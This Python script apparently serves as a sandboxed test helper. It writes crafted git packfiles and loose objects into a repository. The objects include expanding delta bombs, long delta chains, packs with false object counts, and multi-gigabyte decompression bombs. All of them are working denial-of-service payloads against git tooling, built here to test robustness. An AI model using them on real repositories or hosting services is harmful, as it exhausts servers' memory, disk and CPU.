# SPDX-License-Identifier: Apache-2.0
"""Packs that no git writes: deltas that grow, long chains of them, false counts. Run inside a sandbox with the name of an attack, it puts a pack into
.git/objects/pack and prints the id of the object that a commit is to have; the shell does the rest."""
import hashlib
import struct
import sys
import zlib

BLOB, OFS_DELTA = 3, 6


def varint(number):
    """A size, seven bits at a time, the lowest first."""
    out = bytearray()
    while True:
        out.append((number & 0x7F) | (0x80 if number > 0x7F else 0))
        number >>= 7
        if not number:
            return bytes(out)


def header(kind, size):
    first, rest = (kind << 4) | (size & 15), size >> 4
    return bytes([first]) if not rest else bytes([first | 0x80]) + varint(rest)


def distance(number):
    """How far back the base of a delta lies."""
    out = [number & 0x7F]
    while number > 0x7F:
        number = (number >> 7) - 1
        out.append(0x80 | (number & 0x7F))
    return bytes(reversed(out))


def copy(offset, size):
    """The instruction of a delta that copies from its base."""
    return bytes([0x80 | 0x0F | 0x70]) + struct.pack("<I", offset) + struct.pack("<I", size)[:3]


class Pack:
    def __init__(self):
        self.data, self.objects = bytearray(b"PACK" + struct.pack(">II", 2, 0)), []

    def add(self, kind, size, content, sha, base=None):
        """Adds an object with its content as it is stored, and returns where."""
        at = len(self.data)
        raw = header(kind, size) + (distance(at - base) if base is not None else b"") + content
        self.data += raw
        self.objects.append((sha, at, zlib.crc32(raw)))
        return at

    def write(self, count=None):
        self.data[8:12] = struct.pack(">I", len(self.objects) if count is None else count)
        data = bytes(self.data) + hashlib.sha1(self.data).digest()
        name = f".git/objects/pack/pack-{hashlib.sha1(data).hexdigest()}"
        rows = sorted(self.objects)
        counts = [sum(1 for sha, _, _ in rows if sha[0] <= i) for i in range(256)]
        if count is not None:
            counts[255] = count
        index = b"\377tOc" + struct.pack(">I", 2) + b"".join(struct.pack(">I", n) for n in counts)
        index += b"".join(sha for sha, _, _ in rows) + b"".join(struct.pack(">I", crc) for _, _, crc in rows)
        index += b"".join(struct.pack(">I", at) for _, at, _ in rows) + data[-20:]
        for suffix, content in ((".pack", data), (".idx", index + hashlib.sha1(index).digest())):
            with open(name + suffix, "wb") as out:
                out.write(content)


def blob_id(size, chunks):
    sha = hashlib.sha1(b"blob %d\0" % size)
    for chunk in chunks:
        sha.update(chunk)
    return sha.digest()


def growing(times):
    """A blob of 8 MiB that a delta of a few bytes repeats."""
    base = bytes(8 << 20)
    pack, size = Pack(), times * len(base)
    first = pack.add(BLOB, len(base), zlib.compress(base), blob_id(len(base), [base]))
    delta = varint(len(base)) + varint(size) + copy(0, len(base)) * times
    sha = blob_id(size, (base for _ in range(times)))
    pack.add(OFS_DELTA, len(delta), zlib.compress(delta), sha, first)
    pack.write()
    return [sha.hex()]


def chain(length):
    """Blobs each of which is a delta of the one before."""
    text = b"x" * 64
    pack, ids = Pack(), [blob_id(len(text), [text])]
    at = pack.add(BLOB, len(text), zlib.compress(text), ids[0])
    for number in range(1, length):
        tail = b"%08d" % number
        delta = varint(len(text)) + varint(64) + copy(0, 56) + bytes([8]) + tail
        text = text[:56] + tail
        ids.append(blob_id(64, [text]))
        at = pack.add(OFS_DELTA, len(delta), zlib.compress(delta), ids[-1], at)
    pack.write()
    return [sha.hex() for sha in ids]


def counted(count):
    """A pack that says it has more objects than there are bytes."""
    pack, text = Pack(), b"evil"
    sha = blob_id(4, [text])
    pack.add(BLOB, 4, zlib.compress(text), sha)
    pack.write(count)
    return [sha.hex()]


def expanding(gigabytes, says=None):
    """A loose object of zeros: one compressed piece, again and again. With `says` it claims to have so many bytes."""
    piece, total = bytes(16 << 20), gigabytes << 30
    head = b"blob %d\0" % (says or total)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(piece) + deflate.flush(zlib.Z_FULL_FLUSH)
    sha, adler = hashlib.sha1(head + bytes(says or 0)), zlib.adler32(head)
    for _ in range(0 if says else total // len(piece)):
        sha.update(piece)
        adler = zlib.adler32(piece, adler)
    name = sha.hexdigest()
    import os  # pylint: disable=import-outside-toplevel

    os.makedirs(f".git/objects/{name[:2]}", exist_ok=True)
    with open(f".git/objects/{name[:2]}/{name[2:]}", "wb") as out:
        out.write(b"\x78\xda" + start + again * (total // len(piece)) + deflate.flush(zlib.Z_FINISH) + struct.pack(">I", adler))
    return [name]


def lying(gigabytes):
    return expanding(gigabytes, 100)


if __name__ == "__main__":
    print("\n".join({"growing": growing, "chain": chain, "counted": counted, "expanding": expanding, "lying": lying}[sys.argv[1]](int(sys.argv[2]))))
